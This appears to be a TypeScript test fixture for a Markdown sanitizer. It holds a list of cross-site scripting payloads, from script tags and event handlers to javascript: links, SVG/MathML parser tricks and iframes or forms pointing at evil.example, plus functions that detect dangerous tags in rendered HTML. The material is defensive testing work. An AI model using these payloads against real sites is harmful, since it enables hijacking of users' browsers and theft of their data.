/** What someone might write into a post to make a reader's browser run their code. Each sets `window.hit` if it can. */
export const hostileMarkdown: readonly string[] = [
  '<script>window.hit=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.hit=1</scr</script>ipt>',
  '<script\n>window.hit=1</script\n>',
  '</div><script>window.hit=1</script>',
  '<!--><script>window.hit=1</script>-->',
  '<![CDATA[<script>window.hit=1</script>]]>',
  '<img src=x onerror=window.hit=1>',
  '<img src="/covers/birds-indigo.svg" onload="window.hit=1">',
  '<img src=x onerror="&#119;indow.hit=1">',
  '<img """><script>window.hit=1</script>">',
  '![x](x"onerror="window.hit=1)',
  '![x](javascript:window.hit=1)',
  '![x](https://evil.example/track.png)',
  '[x](javascript:window.hit=1)',
  '[x](JaVaScRiPt:window.hit=1)',
  '[x](java\tscript:window.hit=1)',
  '[x](&#106;avascript:window.hit=1)',
  '[x](\u0001javascript:window.hit=1)',
  '[x](data:text/html,<script>window.hit=1</script>)',
  '[x](vbscript:window.hit=1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https://user:pass@evil.example)',
  '[x]: javascript:window.hit=1\n\n[x]',
  '<javascript:window.hit=1>',
  '<a href="javascript:window.hit=1" onclick="window.hit=1" onfocus=window.hit=1 autofocus tabindex=1>x</a>',
  '<a href="jav&#x0A;ascript:window.hit=1">x</a>',
  '<svg onload=window.hit=1><script>window.hit=1</script></svg>',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>',
  '<svg><style><img src=x onerror=window.hit=1></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>window.hit=1</script></annotation-xml></math>',
  '<iframe src="javascript:window.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:window.hit=1>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.hit=1">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<div onmouseover="window.hit=1">x</div>',
  '<details open ontoggle=window.hit=1><summary>x</summary></details>',
  '<video><source onerror=window.hit=1></video><audio src=x onerror=window.hit=1>',
  '<body onload=window.hit=1>',
  '<template><script>window.hit=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<textarea><script>window.hit=1</script></textarea>',
  '<title><script>window.hit=1</script></title>',
  '<xmp><script>window.hit=1</script></xmp><plaintext>',
  '<select><option><script>window.hit=1</script></option></select>',
  '<p id="__proto__" name="document" class="x">x</p>',
  '<marquee onstart=window.hit=1>x</marquee>',
  '<isindex action=javascript:window.hit=1 type=image>',
  '`<script>window.hit=1</script>`',
  '```html\n<script>window.hit=1</script>\n```',
  '```"><script>window.hit=1</script>\nx\n```',
  '| <script>window.hit=1</script> | b |\n|---|---|\n| <img src=x onerror=window.hit=1> | d |',
  '# <img src=x onerror=window.hit=1>',
  '> <script>window.hit=1</script>',
  '<a title="<script>window.hit=1</script>" href="/plan">x</a>',
  `${'x'.repeat(1000)}${'<'.repeat(1000)}script>window.hit=1`,
  '**'.repeat(2000),
  '[['.repeat(2000),
];

/** What the hostile texts of the tests would do, if a browser ran anything of them. */
export const HIT = 'window.hit=1';

const FORBIDDEN = /^<(?:object|embed|base href|script(?! type="module" src="\/assets\/[\w./-]+"))/i;
const SCRIPT_ADDRESS = /\s[\w-]+="\s*(?:javascript|vbscript|data:text)/i;

/**
 * The tags of a page that would make a browser run something that is not ours. Our pages write every `<` and `>` of a
 * text or an attribute as an entity, so whatever looks like a tag is one.
 */
export function dangersIn(html: string): string[] {
  const tags = html.replace(/<style>[\s\S]*?<\/style>/g, '').match(/<[a-z][^>]*>?/gi) ?? [];
  return tags.filter((tag) => {
    const names = tag.replaceAll(/="[^"]*"/g, '');
    return FORBIDDEN.test(tag) || SCRIPT_ADDRESS.test(tag) || names.includes('=') || /\son\w/i.test(names);
  });
}

/** The same for a public page, which has scripts in itself: none of those that run may hold a hostile text. */
export function publicDangersIn(html: string): string[] {
  const withoutOwn = html.replaceAll(/<script[^>]*>([\s\S]*?)<\/script>/gi, (script, text) =>
    text.includes(HIT) && !/^<script type="(?:application|speculation)/.test(script) ? script : '',
  );
  return dangersIn(withoutOwn);
}
